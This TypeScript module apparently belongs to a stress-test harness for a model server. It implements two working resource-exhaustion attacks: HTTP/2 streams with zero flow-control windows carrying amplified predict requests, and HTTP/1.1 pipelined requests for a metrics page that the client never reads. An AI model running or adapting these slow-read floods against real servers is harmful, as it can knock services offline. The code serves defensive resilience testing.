/** Clients that ask for much and take nothing: the server holds their answers. */
import { Buffer } from 'node:buffer';
import { connect, type Socket } from 'node:net';
import { callFields, F, greeting, headers, data as request, windowUpdate } from '../../support/http2-frames.ts';
import { frame } from '../../support/raw-grpc.ts';
import { bytesField, shape, varintField } from '../../support/wire-fragments.ts';
import { type Counts, count, pause, until } from '../driving.ts';
import { type Attack, PREDICT } from './attack.ts';

const CONNECTIONS = 10;
/** Of a request; each is answered with 10 floats. */
const ROWS = 512;
const STREAMS = 500;
const INITIAL_WINDOW = 4;
const METRICS = '/monitoring/prometheus/metrics';

/** One value that the server repeats, so that 4096 rows are 40 bytes. */
function predictFrame(rows: number): Buffer {
  const tensor = [varintField(1, 1), bytesField(2, shape(rows, 64)), bytesField(5, Buffer.alloc(4))];
  const input = Buffer.concat([bytesField(1, 'pixels'), bytesField(2, Buffer.concat(tensor))]);
  return frame(Buffer.concat([bytesField(1, bytesField(1, 'digits')), bytesField(2, input)]));
}

/** HTTP/2 streams with a window of 0. */
export const zeroWindows: Attack = (target, seconds, signal) => {
  const [host, port] = target.grpc.split(':');
  const fields = callFields(PREDICT, 'a');
  const message = predictFrame(ROWS);
  const calls = Array.from({ length: STREAMS }, (_, i) =>
    Buffer.concat([headers(2 * i + 1, fields, F.END_HEADERS), request(2 * i + 1, message, true)]),
  );
  const hello = [greeting({ [INITIAL_WINDOW]: 0 }), windowUpdate(0, 2 ** 30)];
  return holders(seconds, signal, { host: host!, port: Number(port) }, Buffer.concat([...hello, ...calls]), true);
};

/** HTTP/1.1: many requests sent ahead, each for a large page. */
export const pipelinedPages: Attack = (target, seconds, signal) => {
  const { hostname, port } = new URL(target.rest);
  const asks = `GET ${METRICS} HTTP/1.1\r\nhost: a\r\n\r\n`.repeat(2000);
  return holders(seconds, signal, { host: hostname, port: Number(port) }, Buffer.from(asks), false);
};

/** Connections that send `bytes` and hold what they get; new ones for those that the server closes. */
async function holders(
  seconds: number,
  signal: AbortSignal,
  to: { readonly host: string; readonly port: number },
  bytes: Buffer,
  reads: boolean,
): Promise<Counts> {
  const counts: Counts = {};
  const end = until(seconds, signal);
  const one = async (): Promise<void> => {
    while (!end.aborted) {
      const socket: Socket = connect(to);
      count(counts, 'connections');
      socket.on('error', () => count(counts, 'broken off'));
      end.addEventListener('abort', () => socket.destroy(), { once: true });
      if (reads) socket.resume();
      else socket.pause();
      socket.write(bytes);
      await new Promise<void>((resolve) => socket.once('close', () => resolve()));
      await pause(50, end);
    }
  };
  await Promise.all(Array.from({ length: CONNECTIONS }, one));
  return counts;
}
